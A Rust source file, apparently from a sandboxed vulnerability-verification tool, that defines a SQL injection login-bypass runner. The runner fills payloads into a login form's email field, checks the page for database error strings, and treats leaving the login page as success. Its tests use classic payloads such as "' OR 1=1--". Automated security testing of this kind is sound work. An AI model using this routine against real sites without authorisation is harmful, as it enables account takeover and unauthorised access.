use async_trait::async_trait;
use crate::models::{Category, VulnerabilityReport};
use crate::sandbox::plan::{Action, Condition, ScriptDocument};
use super::{evidence, navigate, screenshot, step, with_loop, ExploitRunner};

/// Signatures of database errors leaking into the page.
const ERROR_SIGNATURES: &[&str] = &["SQLITE_ERROR", "SQL syntax", "ORA-01756", "unterminated quoted string"];

/// Login-form bypass: submit each payload as the email and watch for leaving the login page.
pub struct SqlInjectionRunner {
    payloads: Vec<String>,
    login_path: String,
}

impl SqlInjectionRunner {
    pub fn new(payloads: &[String]) -> Self {
        Self {
            payloads: payloads.to_vec(),
            login_path: "/#/login".to_string(),
        }
    }

    pub fn with_login_path(mut self, path: &str) -> Self {
        self.login_path = path.to_string();
        self
    }
}

#[async_trait]
impl ExploitRunner for SqlInjectionRunner {
    fn category(&self) -> Category {
        Category::SqlInjection
    }

    fn name(&self) -> &'static str {
        "sql_injection_login"
    }

    fn plan(&self, vulnerability: &VulnerabilityReport) -> ScriptDocument {
        let error_checks = ERROR_SIGNATURES.iter().map(|sig| Action::Check {
            condition: Condition::ContentContains(sig.to_string()),
            then: vec![evidence(format!("Database error '{}' returned for payload: {{{{payload}}}}", sig))],
            otherwise: Vec::new(),
        });

        let mut attempt = vec![
            navigate(&self.login_path),
            Action::WaitForLoad,
            step("Try payload in the email field: {{payload}}"),
            Action::Fill { selector: "input[name=\"email\"], #email".into(), value: "{{payload}}".into() },
            Action::Fill { selector: "input[name=\"password\"], #password".into(), value: "anything".into() },
            screenshot("payload_entered"),
            Action::Click { selector: "button[type=\"submit\"], #loginButton".into() },
            Action::Wait { ms: 1500 },
        ];
        attempt.extend(error_checks);
        attempt.push(Action::Check {
            condition: Condition::UrlContains("login".into()),
            then: vec![step("Still on the login page after {{payload}}")],
            otherwise: vec![
                Action::SetSuccess,
                evidence("Login bypass successful with: {{payload}}"),
                screenshot("success_state"),
            ],
        });

        let prefix = vec![
            navigate(&self.login_path),
            Action::WaitForLoad,
            step(format!("Navigate to the login page ({})", vulnerability.name)),
            screenshot("initial_state"),
        ];
        with_loop(prefix, &self.payloads, "payload", attempt, true)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_plan_iterates_payloads() {
        let payloads = vec!["' OR 1=1--".to_string(), "admin' --".to_string()];
        let runner = SqlInjectionRunner::new(&payloads).with_login_path("/login");
        let doc = runner.plan(&VulnerabilityReport::new("SQL Injection", "login"));
        let main = doc.entry().unwrap();
        assert!(matches!(main.actions[0], Action::Navigate { path: Some(ref p), .. } if p == "/login"));
        let Action::ForEach { values, stop_on_success, .. } = &main.actions[4] else {
            panic!("expected payload loop");
        };
        assert_eq!(values, &payloads);
        assert!(*stop_on_success);
    }

    #[test]
    fn test_evidence_template_keeps_placeholder() {
        let runner = SqlInjectionRunner::new(&["x".to_string()]);
        let text = serde_json::to_string(&runner.plan(&VulnerabilityReport::new("sqli", ""))).unwrap();
        assert!(text.contains("returned for payload: {{payload}}"));
    }
}
